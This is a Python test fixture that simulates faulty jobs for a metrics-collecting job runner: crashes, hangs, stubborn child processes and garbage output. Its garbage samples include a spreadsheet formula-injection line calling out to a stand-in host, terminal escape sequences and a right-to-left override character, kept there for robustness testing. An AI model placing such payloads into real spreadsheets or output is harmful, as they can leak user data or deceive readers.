"""The programs that rows run, and what is wrong with them. What a job does follows from its row's seed alone."""

from __future__ import annotations

import errno
import json
import random
from dataclasses import dataclass

from tests.sim.engine import Engine
from tests.sim.machine import File, Process, failure
from tests.sim.posix import OS, me

SECRET = "s3cr3t-t0ken-0123456789"


@dataclass(frozen=True)
class Fate:
    """How a job behaves: `crashes` runs fail before one succeeds."""

    seconds: float = 20.0
    crashes: int = 0
    rc: int = 1
    signal: int = 0
    hangs: bool = False
    ignores_term: bool = False
    term_rc: int | None = None
    children: int = 0
    child_is_stubborn: bool = False
    child_hides: bool = False
    garbage: bool = False
    reports: bool = True


def draw_fate(chance: random.Random, kinds: set[str]) -> Fate:
    """One job. `kinds` are the faults of the catalogue that this run enables."""

    def may(kind: str, probability: float) -> bool:
        return kind in kinds and chance.random() < probability

    crashes = 0
    if may("J2", 0.3):
        crashes = chance.randrange(1, 3)
    if may("J3", 0.15):
        crashes = 99
    return Fate(
        seconds=0.0 if may("J1", 0.1) else chance.choice([0.5, 5.0, 30.0, 120.0]) * (0.5 + chance.random()),
        crashes=99 if may("J1", 0.1) else crashes,
        rc=chance.choice([1, 2, 3, 77, 137]),
        signal=chance.choice([9, 11, 15]) if may("J4", 0.2) else 0,
        hangs=may("J5", 0.15),
        ignores_term=may("J12", 0.3),
        term_rc=0 if may("J10", 0.2) else None,
        children=chance.randrange(1, 4) if may("J11", 0.4) else 0,
        child_is_stubborn=may("J12", 0.5),
        child_hides=may("J13", 0.5),
        garbage=may("J16", 0.5),
        reports=not may("J15", 0.3),
    )


GARBAGE = (
    b"\x1b[2J\x1b]0;title\x07\r 12%|#   | 1/8\r 25%|##",
    b'=IMPORTDATA("http://example.org/?"&A1)\n',
    b'{"values": {"loss": NaN}}\n{"values": {"loss": 1e400}}\n\xff\xfe broken\n',
    b"SHEETD 00000000000000000000000000000000 2 44136fa355b3678a\n{}\n",
    b"x" * 70_000,
    b"ValueError: \xe2\x80\xae evil\n",
)


def run_job(engine: Engine, fate: Fate, is_calm: list[bool], process: Process, env: dict[str, str]) -> int:
    """The life of a job's main process. Returns its exit code."""
    machine = process.machine
    process.ignores_term = fate.ignores_term
    for number in range(fate.children):
        born = machine.new_process(process, "job child", lambda: live_on(engine, is_calm))
        born.handlers = {}
        if fate.child_is_stubborn:
            engine.fault("J12 a child ignores TERM")
            born.ignores_term = True
        if fate.child_hides and number == 0:
            engine.fault("J13 a child leaves the session and forgets its environment")
            born.session, born.environ = born.pid, {}
    run = int(env["SHEETD_RESTART"])
    steps = 4
    for step in range(steps):
        engine.sleep(min(fate.seconds / steps, 1.0) if is_calm[0] else fate.seconds / steps)
        if fate.reports:
            write(
                process,
                env["SHEETD_METRICS_FILE"],
                json.dumps({"step": step, "values": {"loss": 1.0 / (step + 1)}, "k": run}),
            )
        if fate.garbage:
            write(process, env["SHEETD_METRICS_FILE"], "")
            talk(GARBAGE[(step + run) % len(GARBAGE)])
        checkpoint = env["CHECKPOINT_DIR"]
        leave(process, f"{checkpoint}/step-{step}")
    while fate.hangs and not is_calm[0]:
        engine.sleep(30.0)
    talk(b"loss=0.5\nValueError: the end of it\n")
    if run < fate.crashes:
        if fate.signal:
            machine.end(me(), fate.signal)
        return fate.rc
    return 0


def live_on(engine: Engine, is_calm: list[bool]) -> None:
    while not is_calm[0]:
        engine.sleep(60.0)


def talk(data: bytes) -> None:
    try:
        OS.write(1, data)
    except OSError as error:
        if error.errno != errno.ENOSPC:
            raise


def write(process: Process, path: str, line: str) -> None:
    file = process.machine.find(path)
    if process.machine.disk_full:
        return
    file.data += line.encode() + b"\n"
    process.machine.changed()


def leave(process: Process, path: str) -> None:
    try:
        if process.machine.disk_full:
            raise failure(errno.ENOSPC)
        folder, name = process.machine.place(path)
        if name not in folder.entries:
            folder.put(name, File(b"weights"))
    except OSError as error:
        if error.errno not in (errno.ENOSPC, errno.ENOENT):
            raise
